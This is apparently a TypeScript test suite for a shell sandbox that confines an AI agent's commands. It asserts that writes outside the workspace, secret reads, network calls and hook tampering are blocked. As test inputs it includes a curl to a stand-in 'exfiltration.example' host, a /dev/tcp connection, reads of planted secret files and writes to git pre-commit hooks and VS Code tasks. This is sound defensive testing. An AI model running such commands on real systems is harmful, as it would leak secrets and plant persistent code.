import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";
import type { ToolResult } from "../../server/src/core/ports/tools.ts";
import { createSandbox } from "../../server/src/adapters/tools/shell/sandbox.ts";
import { MemoryPolicyBook, noCeiling } from "../support/fakes/memory-policy-book.ts";
import { eventually } from "../support/eventually.ts";
import { rememberLog } from "../support/remembered-log.ts";
import { sandboxPrograms } from "../support/sandbox-programs.ts";
import { skipBecause } from "../support/skip-because.ts";
import { temporaryFolder } from "../support/temporary-folder.ts";
import { isRunning, openBench, type ToolboxBench } from "../support/toolbox-bench.ts";

describe("toolbox: the sandbox", function () {
  this.timeout(30_000);
  let bench: ToolboxBench;
  let book: MemoryPolicyBook;
  let home: string;

  before(async function () {
    const log = rememberLog();
    const sandbox = createSandbox({ rules: async () => noCeiling.sandbox, log, programs: sandboxPrograms });
    const standing = await sandbox.standing();
    await sandbox.rest();
    if (!standing.sandboxed) skipBecause(this, `${standing.because}. ${standing.remedy}`);
  });

  beforeEach(async () => {
    home = await temporaryFolder();
    book = new MemoryPolicyBook();
    book.standing = { ...noCeiling, sandbox: { ...noCeiling.sandbox, denyRead: [home] } };
    bench = await openBench({ policy: book });
  });

  /** A command of an agent. */
  const agent = (command: string): Promise<ToolResult> => bench.shell(command, { origin: "agent" });
  const says = async (command: string): Promise<string> => (await agent(command)).output;

  it("says that it's there", async () => assert.deepEqual(await bench.toolbox.sandbox(), { sandboxed: true }));

  it("lets a command work in the workspace folder and in the task's own", async () => {
    const result = await agent(`echo a > inside && echo b > ${join(bench.runFolder, "own")} && cat inside`);
    assert.deepEqual([result.outcome, result.output], ["succeeded", "a"]);
    assert.equal(await readFile(join(bench.runFolder, "own"), "utf8"), "b\n");
  });

  it("keeps it from writing elsewhere", async () => {
    // Not in the folder for temporary files, where a checkout may lie: there the sandbox has one of its own.
    const elsewhere = join(homedir(), "written-by-a-sandboxed-command");
    const result = await agent(`echo x > ${elsewhere}`);
    assert.equal(result.outcome, "failed");
    assert.match(result.output, /Read-only file system|Operation not permitted/);
    assert.ok(!existsSync(elsewhere));
  });

  it("keeps keys, other runs and the temporary files of others from it", async () => {
    await writeFile(join(home, "policy.yaml"), "SECRET-1");
    const other = await temporaryFolder();
    await writeFile(join(other, "note"), "SECRET-2");
    const output = await says(`cat ${join(home, "policy.yaml")} ${join(other, "note")}; ls ${other}; true`);
    assert.doesNotMatch(output, /SECRET|note\n/);
  });

  it("gives it a temporary folder of its own", async () => {
    assert.match(await says('f=$(mktemp) && echo x > "$f" && cat "$f" && echo "$f"'), /^x\n.*manus-shell-.*tmp/);
  });

  it("reaches no host that the settings don't name, this machine's own servers neither", async () => {
    const hits: string[] = [];
    const server = createServer((request, response) => {
      hits.push(request.url ?? "");
      response.end("INSIDE");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port } = server.address() as AddressInfo;
    const output = await says(
      `node -e 'fetch("http://127.0.0.1:${port}/").then((r)=>r.text()).then(console.log,()=>console.log("refused"))';` +
        `exec 5<>/dev/tcp/127.0.0.1/${port} && echo CONNECTED; curl -sS -m 5 http://exfiltration.example/x; true`,
    );
    await new Promise((resolve) => server.close(resolve));
    assert.deepEqual(hits, []);
    assert.match(output, /refused/);
    assert.doesNotMatch(output, /INSIDE|CONNECTED/);
  });

  it("hands it no keys of the host", async () => {
    process.env["TEST_SANDBOX_API_KEY"] = "SECRET-3";
    try {
      assert.equal(await says("echo [$TEST_SANDBOX_API_KEY]"), "[]");
    } finally {
      delete process.env["TEST_SANDBOX_API_KEY"];
    }
  });

  it("keeps hooks, settings of editors and task files as they are, and leaves nothing behind", async () => {
    await mkdir(join(bench.workspace, ".git"));
    await writeFile(join(bench.workspace, ".git", "config"), "[core]\n");
    await writeFile(join(bench.workspace, "a.manus.yaml"), "manus: 1\n");
    await says(
      "mkdir -p .git/hooks .vscode; echo x > .git/hooks/pre-commit; echo x >> .git/config; echo x > .vscode/tasks.json;" +
        "echo x >> a.manus.yaml; mv .git git; true",
    );
    assert.equal(await readFile(join(bench.workspace, ".git", "config"), "utf8"), "[core]\n");
    assert.equal(await readFile(join(bench.workspace, "a.manus.yaml"), "utf8"), "manus: 1\n");
    await bench.toolbox.endRun(bench.context.runId);
    assert.deepEqual(
      [".git/hooks", ".vscode"].filter((name) => existsSync(join(bench.workspace, name))),
      [],
    );
  });

  it("keeps a session: directory, variables, functions, and what a new shell can know", async () => {
    await says("mkdir sub && cd sub && export COLOUR=red && greet() { echo hi; }");
    const again = (command: string): Promise<ToolResult> =>
      bench.call("shell_exec", { id: "main", exec_dir: "", command }, { origin: "agent" });
    assert.match((await again("basename $PWD; echo $COLOUR; greet")).output, /^sub\nred\nhi$/);
    assert.equal((await again("exit 3")).exitCode, 3);
    assert.match((await again("basename $PWD; echo $COLOUR; greet")).output, /^sub\nred\nhi$/);
  });

  it("types into a program", async () => {
    const asked = await bench.shell("read name; echo hello $name", { origin: "agent", patienceMs: 100 });
    assert.match(asked.output, /Still running/);
    await bench.call("shell_write_to_process", { id: "main", input: "you", press_enter: true }, { origin: "agent" });
    const ended = await bench.call("shell_wait", { id: "main", seconds: 10 }, { origin: "agent" });
    assert.match(ended.output, /hello you/);
  });

  it("ends with everything in it", async () => {
    const running = await bench.shell("setsid sleep 600 & nohup sleep 601 & sleep 602", {
      origin: "agent",
      patienceMs: 300,
    });
    assert.match(running.output, /Still running/);
    const heads = await pidsOf(bench);
    assert.ok(heads.length > 0);
    await bench.toolbox.endRun(bench.context.runId);
    await eventually("nothing of it runs", async () => {
      const left = await Promise.all(heads.map(isRunning));
      return !left.includes(true);
    });
  });

  it("leaves direct steps alone", async () => {
    const other = await temporaryFolder();
    await bench.shell(`echo x > ${join(other, "note")}`);
    assert.equal(await readFile(join(other, "note"), "utf8"), "x\n");
  });

  it("is off where the settings say so", async () => {
    book.standing = { ...noCeiling, sandbox: { ...noCeiling.sandbox, mode: "off" } };
    const standing = await bench.toolbox.sandbox();
    assert.equal(standing.sandboxed, false);
    const other = await temporaryFolder();
    assert.equal((await agent(`echo x > ${join(other, "note")}`)).outcome, "succeeded");
  });
});

/** Every process that carries the mark of the run. */
async function pidsOf(bench: ToolboxBench): Promise<readonly number[]> {
  const { createProcessTable } = await import("../../server/src/adapters/tools/shell/process-table.ts");
  const rows = (await createProcessTable()?.list([`MANUS_RUN_ID=${bench.context.runId}`])) ?? [];
  return rows.filter(({ marked }) => marked).map(({ pid }) => pid);
}
